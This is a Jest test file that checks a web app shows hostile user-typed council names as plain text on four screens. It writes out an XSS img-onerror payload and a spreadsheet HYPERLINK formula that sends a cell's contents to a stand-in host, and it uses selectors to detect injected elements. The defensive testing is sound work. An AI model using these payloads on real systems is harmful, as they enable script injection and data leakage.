/** @jest-environment jsdom */
import { act, waitFor } from '@testing-library/react';
import { exampleScenario } from '../../src/model/scenario/document/example';
import { hostileTexts } from '../hostile';
import { openPane } from './support';

// Four screens of many councils, each fetched for the first time.
jest.setTimeout(90_000);

/** Those that a page might take for something else; too many councils would make the test slow. */
const names = hostileTexts.filter((text) => /[<&:=]|__/.test(text)).map((text) => text.trim());

test('what somebody typed is shown as they typed it, on every screen, and is nothing but text', async () => {
  const { app, container } = openPane();
  const example = exampleScenario();
  const [council] = example.councils;
  if (!council) throw new Error('the example has changed');
  const councils = names.map((name) => ({
    ...council,
    name,
    asIs: { ...council.asIs, source: name, note: name },
  }));
  act(() => {
    app.store.dispatch({
      type: 'scenario opened',
      scenario: { ...example, name: names.find((name) => name.startsWith('<img')) ?? '', councils },
    });
  });
  for (const tab of ['Compare', 'Scenario', 'Share', 'Risk'] as const) {
    act(() => {
      app.store.dispatch({ type: 'went to', screen: tab.toLowerCase() as 'compare' });
    });
    await shown(container, tab);
    expect(
      container.querySelectorAll('script, iframe, object, img[src], a[href^="javascript"]'),
    ).toHaveLength(0);
    const attributes = [...container.querySelectorAll('*')].flatMap((element) => element.getAttributeNames());
    expect(attributes.filter((attribute) => attribute.startsWith('on'))).toEqual([]);
  }
  act(() => {
    app.store.dispatch({ type: 'went to', screen: 'scenario' });
  });
  await shown(container, 'Scenario');
  const written =
    container.textContent + [...container.querySelectorAll('input')].map(({ value }) => value).join('\n');
  for (const name of [
    '<img src=x onerror="document.title=1">',
    '=HYPERLINK("https://example.invalid/?"&A1,"Click")',
  ])
    expect(written).toContain(name);
  expect(document.title).toBe('');
});

/** By selectors, which are quicker than roles on a screen of many councils. */
const shown = (container: HTMLElement, tab: string) =>
  waitFor(
    () => {
      const selected = container.querySelector('[role=tab][aria-selected=true]');
      expect(selected?.textContent).toContain(tab);
      expect(container.querySelector('[role=tabpanel]')?.textContent).not.toBe('');
    },
    { timeout: 15_000 },
  );
